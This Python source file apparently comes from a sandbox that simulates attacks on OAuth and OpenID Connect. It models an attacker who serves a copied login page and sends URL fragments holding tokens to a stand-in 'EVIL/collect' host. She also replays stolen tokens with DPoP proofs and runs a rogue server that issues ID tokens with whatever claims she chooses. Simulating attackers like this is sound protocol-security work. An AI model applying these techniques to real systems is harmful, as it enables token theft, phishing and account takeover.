"""Mallory's machine: it answers at the addresses she operates, and holds her keys.

What she may use is decided elsewhere: by what the trace shows that she has learned.
"""

from __future__ import annotations

from dataclasses import dataclass, field, replace
from typing import Any
from urllib.parse import urlencode

from sandbox.core.frozen import Frozen
from sandbox.core.wire import Pairs, Request, Response, first, json_request, json_response, pairs, split, with_query, without_query
from sandbox.protocol import nonces
from sandbox.protocol.cast import EVIL, EVIL_AS
from sandbox.protocol.certificates import bound_certificate, certificate, certificate_thumbprint
from sandbox.protocol.proofs import prove
from sandbox.protocol.tokens import Key, NotAJwt, decode, key_for
from sandbox.world.network import Network
from sandbox.world.parties import cors
from sandbox.world.parties.browser import Action, Browser, Fetch
from sandbox.world.parties.pages import Form, form, page


@dataclass(frozen=True, slots=True)
class LeadsOn(Frozen):
    """An answer that leads on to an address, in which the parameters `keep` are those of the address that was asked."""

    url: str
    keep: tuple[str, ...]
    status: int

    def to(self, request: Request) -> Response:
        """The redirect for whoever asks with this request."""
        u = split(self.url)
        kept = {name: value for name in self.keep if (value := first(request.query, name)) is not None}
        query = urlencode([(k, v) for k, v in pairs(u.query) if k not in kept] + list(kept.items()))
        return Response(self.status, (("Location", u._replace(query=query).geturl()),))


def copied_login(url: str, status: int) -> Response:
    """A page that looks like the login page of the honest server, with a form that comes to this address."""
    fields = form(url, {}, ("username", "text"), ("password", "password"), button="Sign in")
    return page("login", "Sign in to ConnectSphere", fields, status=status)


@dataclass
class Attacker:
    """The attacker's machine.  `keys`: by thumbprint, her own first, then those she has taken."""

    name: str
    net: Network
    keys: dict[str, Key] = field(default_factory=dict)
    served: dict[str, Response | LeadsOn] = field(default_factory=dict)
    certificates: dict[str, str] = field(default_factory=dict)
    nonces: dict[str, str] = field(default_factory=dict)  # that servers have told her, by their origin
    taken: dict[str, tuple[Key | None, str]] = field(default_factory=dict)  # tokens with the key and certificate they were kept with

    def __post_init__(self) -> None:
        self.keep(key_for(self.net.entropy.seed, self.name))

    def keep_certificate(self, text: str) -> None:
        """A certificate together with its key, so that she can connect with it."""
        self.certificates[certificate_thumbprint(text)] = text

    def certificate(self, bound: str | None = None) -> str:
        """The certificate to connect with: the one that a token is bound to, else the last one taken, else her own."""
        own = certificate(self.net.entropy.seed, self.name)
        return self.certificates.get(bound, own) if bound else next(reversed(self.certificates.values()), own)

    def keep(self, key: Key) -> None:
        self.keys[key.thumbprint] = key

    def handle(self, request: Request) -> Response:
        """Whatever she has put at that address, or an empty page; any page may ask, and read."""
        if cors.is_preflight(request):
            return cors.permission()
        put = self.put(request)
        if put is None:
            return Response(200, (("Content-Type", "text/html; charset=utf-8"),), "")
        return put.to(request) if isinstance(put, LeadsOn) else put

    def put(self, request: Request) -> Response | LeadsOn | None:
        """What she has put at this address, with or without its query."""
        return self.served.get(request.url) or self.served.get(without_query(request.url))

    # ---- the script of her pages
    def load(self, browser: Browser, url: str) -> Action | None:
        """Report to the attacker the part of a page's address that its server cannot see: the fragment."""
        html = browser.page is not None and (browser.page.header("content-type") or "").startswith("text/html")
        return Fetch(json_request("POST", f"{EVIL}/collect", {"address": url}), "reported") if html and split(url).fragment else None

    def submit(self, browser: Browser, form: Form, fields: Pairs) -> Action | None:
        return None

    def resume(self, browser: Browser, then: str, response: Response) -> Action | None:
        return None

    def state(self) -> dict[str, str]:
        return {f"key {thumb[:8]}…": "her own" if i == 0 else "taken" for i, thumb in enumerate(self.keys)}

    def present(self, request: Request, token: str, scheme: str = "") -> Request:
        """The request with a token, the way the token wants it: bound to a key means DPoP, with the best key that she has."""
        bound, (key, certificate) = self._bound_certificate(token), self.taken.get(token, (None, ""))
        if bound or certificate:
            request = replace(request, certificate=certificate or self.certificate(bound))
        key = key or self._key_of(token)
        if scheme == "bearer" or (key is None and scheme != "dpop"):
            return request.with_header("Authorization", f"Bearer {token}")
        key = key or next(iter(self.keys.values()))
        return self.proving(request.with_header("Authorization", f"DPoP {token}"), key, token)

    def proving(self, request: Request, key: Key, token: str | None = None) -> Request:
        """The request with a proof by this key, and with the nonce that the server has told her, if any."""
        now, jti = self.net.clock.now(), self.net.entropy.token("mallory dpop", 9)
        nonce = self.nonces.get(request.origin, "")
        return request.with_header("DPoP", prove(key, request.method, request.url, now, jti, token, nonce))

    def told(self, request: Request, answer: Response) -> bool:
        """Whether the answer asks for another proof, with the nonce that it brings: whoever asks a server is told its nonce."""
        if nonce := answer.header(nonces.HEADER):
            self.nonces[request.origin] = nonce
        return request.header("dpop") is not None and bool(nonces.wanted(answer))

    def _bound_certificate(self, token: str) -> str | None:
        try:
            return bound_certificate(decode(token).claims)
        except NotAJwt:
            return None

    def _key_of(self, token: str) -> Key | None:
        try:
            cnf = decode(token).claims.get("cnf")
        except NotAJwt:
            return None
        if not isinstance(cnf, dict) or "jkt" not in cnf:
            return None
        return self.keys.get(str(cnf["jkt"])) or next(iter(self.keys.values()))


@dataclass
class EvilApp:
    """Mallory's app on Alice's phone.  It looks like any other, and gets the links that it has claimed."""

    name: str

    def handle(self, request: Request) -> Response:
        """It keeps what it gets and shows nothing."""
        return Response(200, (("Content-Type", "text/html; charset=utf-8"),), "")

    def state(self) -> dict[str, str]:
        return {}


@dataclass
class EvilServer:
    """Mallory's authorization server.  Clients are registered there as at any other.  It answers what she has put at its addresses; where
    that is nothing, and she wants it to vouch for somebody (`says`, claims of an ID token), it does what an honest server would do."""

    name: str
    owner: Attacker
    says: dict[str, Any] = field(default_factory=dict)
    asked: dict[str, Pairs] = field(default_factory=dict)  # authorization requests by the code that answers them

    def handle(self, request: Request) -> Response:
        """What she has put there, or what it says about whoever is sent here."""
        if self.owner.put(request) is None and self.says:
            if request.path == "/authorize":
                return self._authorize(request.query)
            if request.path == "/token":
                return self._token(request)
            if request.path == "/jwks":
                return json_response(200, {"keys": [self._key.jwk]})
        return self.owner.handle(request)

    @property
    def _key(self) -> Key:
        return next(iter(self.owner.keys.values()))

    def _authorize(self, query: Pairs) -> Response:
        """Nobody is asked anything (RFC 6749 §4.1.2)."""
        code = self.owner.net.entropy.token("code of Mallory's server", 12)
        self.asked[code] = query
        answer = {"code": code, "state": first(query, "state") or "", "iss": EVIL_AS}
        return Response(303, (("Location", with_query(first(query, "redirect_uri") or EVIL, answer)),))

    def _token(self, request: Request) -> Response:
        """An ID token with the claims that she wants (OIDC Core §3.1.3.3)."""
        query, now = self.asked.pop(request.param("code") or "", ()), self.owner.net.clock.now()
        claims = {
            "iss": EVIL_AS,
            "aud": first(query, "client_id"),
            "iat": now,
            "exp": now + 300,
            "nonce": first(query, "nonce"),
        } | self.says
        token = self._key.sign({name: value for name, value in claims.items() if value is not None})
        return json_response(200, {"access_token": "of-no-use", "token_type": "Bearer", "id_token": token}, ("Cache-Control", "no-store"))

    def state(self) -> dict[str, str]:
        return {f"says {name}": str(value) for name, value in self.says.items()}
